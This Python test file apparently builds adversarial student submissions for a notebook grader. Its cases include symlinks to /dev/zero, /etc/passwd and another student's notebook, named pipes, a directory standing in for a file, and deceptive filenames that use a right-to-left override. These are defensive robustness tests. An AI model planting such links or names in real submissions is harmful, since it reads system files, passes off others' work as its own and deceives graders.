def _(notebook: bytes) -> Tree:
    return {NB: Symlink("/dev/zero")}


@case("link-neighbour", "left_out", "the notebook links to another student's", "own_loss")
def _(notebook: bytes) -> Tree:
    return {NB: Symlink(f"../../alice/softmax_mnist/{NB}")}


@case("fifo", "left_out", "the notebook is a named pipe")
def _(notebook: bytes) -> Tree:
    return {NB: Fifo()}


@case("folder", "left_out", "the notebook is a folder")
def _(notebook: bytes) -> Tree:
    return {f"{NB}/readme.txt": b"x"}


@case("second-notebook", "full", "more notebooks beside the right one, one broken")
def _(notebook: bytes) -> Tree:
    return {
        NB: notebook,
        "softmax_mnist-Copy1.ipynb": notebook,
        "scratch.ipynb": b"[" * 100_000,
        "old/softmax_mnist.ipynb": b"{}",
        ".ipynb_checkpoints/softmax_mnist-checkpoint.ipynb": b"{",
    }


@case("odd-neighbours", "full", "links, pipes and odd names beside the right notebook")
def _(notebook: bytes) -> Tree:
    return {
        NB: notebook,
        "up": Symlink("../.."),
        "zero": Symlink("/dev/zero"),
        "pipe": Fifo(),
        "a\nb": b"",
        "\u202ebpyni": b"",
        "caf\udce9": b"",
    }


# ---------------------------------------------------------------- report.pdf

PDFS: list[PdfCase] = [
    PdfCase(
        f"pdf-{maker.id}",
        lambda notebook, maker=maker: {NB: notebook, "report.pdf": maker.make()},
        maker.expected,
        maker.why,
        (("unreadable" if maker.expected == "readable" else "readable"),) if maker.either else (),
    )
    for maker in PDF_MAKERS
]
PDFS += [
    PdfCase(
        f"pdf-{name}",
        lambda notebook, thing=thing: {NB: notebook, "report.pdf": thing},
        "unreadable",
        why,
    )
    for name, thing, why in (
        ("fifo", Fifo(), "a named pipe"),
        ("link-zero", Symlink("/dev/zero"), "a link to /dev/zero"),
        ("link-passwd", Symlink("/etc/passwd"), "a link to /etc/passwd"),
    )
]


if __name__ == "__main__":
    print(len(NOTEBOOKS), "notebooks,", len(PDFS), "reports")
